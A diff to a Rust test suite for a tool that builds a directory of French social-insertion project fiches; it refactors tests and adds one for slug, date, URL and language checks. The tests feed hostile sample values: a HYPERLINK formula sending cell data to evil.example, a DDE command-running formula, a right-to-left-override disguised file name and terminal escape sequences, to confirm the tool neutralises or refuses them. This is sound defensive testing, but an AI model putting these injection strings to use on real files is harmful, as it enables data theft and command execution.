@@ -710,6 +710,17 @@ fn the_html_checker_itself_catches_active_markup() {
     assert!(r.is_err());
 }
 
+/// Edits the Hirson fiche of a sample project: each text replaced once.
+fn edit_hirson(root: &Path, edits: &[(&str, &str)]) {
+    let path = root.join("fiches/insertion/ateliers-insertion-hirson.md");
+    let mut text = std::fs::read_to_string(&path).unwrap();
+    for (from, to) in edits {
+        assert!(text.contains(from), "{from}");
+        text = text.replacen(from, to, 1);
+    }
+    std::fs::write(&path, text).unwrap();
+}
+
 /// The sample project with one line of the Hirson fiche replaced.
 fn sample_with(line: &str, new: &str) -> tempfile::TempDir {
     let p = sample_project();
@@ -724,10 +735,7 @@ fn sample_with(line: &str, new: &str) -> tempfile::TempDir {
 #[test]
 fn a_formula_in_a_fiche_is_text_in_the_spreadsheets_and_raw_in_the_json() {
     let p = sample_with("titre: ", r#"titre: '=HYPERLINK("http://evil.example/?x="&A1,"clic")'"#);
-    let path = p.path().join("fiches/insertion/ateliers-insertion-hirson.md");
-    let text =
-        std::fs::read_to_string(&path).unwrap().replace("{ nom: \"État – ACSé (politique de la ville)\"", "{ nom: \"=cmd|' /C calc'!A0\"");
-    std::fs::write(&path, text).unwrap();
+    edit_hirson(p.path(), &[("{ nom: \"État – ACSé (politique de la ville)\"", "{ nom: \"=cmd|' /C calc'!A0\"")]);
     let out = p.path().join("out");
     ok(&build(p.path(), out.to_str().unwrap(), &[]));
     let fiches = std::fs::read_to_string(out.join("donnees/fiches.csv")).unwrap();
@@ -745,12 +753,13 @@ fn a_formula_in_a_fiche_is_text_in_the_spreadsheets_and_raw_in_the_json() {
 fn hidden_controls_in_a_value_are_refused_and_never_reach_the_terminal() {
     // A right-to-left override in a title, a terminal title sequence and a NUL in others.
     let p = sample_with("titre: ", "titre: \"Facture \\u202Egnp.exe\\u202C\"");
-    let path = p.path().join("fiches/insertion/ateliers-insertion-hirson.md");
-    let text = std::fs::read_to_string(&path)
-        .unwrap()
-        .replace("structure: CCAS d'Hirson", "structure: \"CCAS\\e]0;pirate\\a d'Hirson\\e[8m\"")
-        .replace("type_structure: ccas", "type_structure: \"cc\\e[2Jas\"\nmots_cles: [\"a\\0b\"]");
-    std::fs::write(&path, text).unwrap();
+    edit_hirson(
+        p.path(),
+        &[
+            ("structure: CCAS d'Hirson", "structure: \"CCAS\\e]0;pirate\\a d'Hirson\\e[8m\""),
+            ("type_structure: ccas", "type_structure: \"cc\\e[2Jas\"\nmots_cles: [\"a\\0b\"]"),
+        ],
+    );
     let check = recueil().arg("--root").arg(p.path()).arg("check").output().unwrap();
     assert_eq!(check.status.code(), Some(1));
     let err = String::from_utf8_lossy(&check.stderr);
@@ -810,4 +819,33 @@ fn only_real_image_files_inside_the_fiche_folder_are_published() {
     assert!(!err.contains("« vraie.png »"), "a real PNG beside the fiche is fine:\n{err}");
     assert_eq!(err.matches(": erreur: ").count(), 6, "{err}");
     failed(&build(root, root.join("out").to_str().unwrap(), &[]));
+}
+
+#[test]
+fn an_empty_slug_a_year_zero_a_url_with_a_query_and_an_odd_language_are_refused() {
+    let p = sample_with("thematiques: ", "thematiques: [Insertion, \"!!!\"]");
+    edit_hirson(
+        p.path(),
+        &[
+            (
+                "publics:\n  - Bénéficiaires du RSA\n  - Bénéficiaires de l'AAH\n  - Demandeurs d'emploi\n  - Retraités\n",
+                "publics: [\"…\", Familles]\n",
+            ),
+            ("date: 2015-09-15", "date: 0000-01-01"),
+        ],
+    );
+    std::fs::write(p.path().join("recueil.yaml"), "titre: Recueil\nurl: https://exemple.fr/a?b=1&c=2\nlangue: français\n").unwrap();
+    let check = recueil().arg("--root").arg(p.path()).arg("check").output().unwrap();
+    assert_eq!(check.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&check.stderr);
+    for expected in [
+        "erreur: « !!! » dans « thematiques » n'a ni lettre ni chiffre",
+        "erreur: « … » dans « publics » n'a ni lettre ni chiffre",
+        "erreur: « date » : l'année 0 n'est pas plausible pour une fiche",
+        "recueil.yaml:2:6: erreur: « url » : « https://exemple.fr/a?b=1&c=2 » contient « ? » ou « # »",
+        "aide : gardez l'adresse sans ce qui suit : url: https://exemple.fr/a",
+        "recueil.yaml:3:9: erreur: « langue » : « français » n'est pas un code de langue",
+    ] {
+        assert!(err.contains(expected), "{expected}\n{err}");
+    }
 }
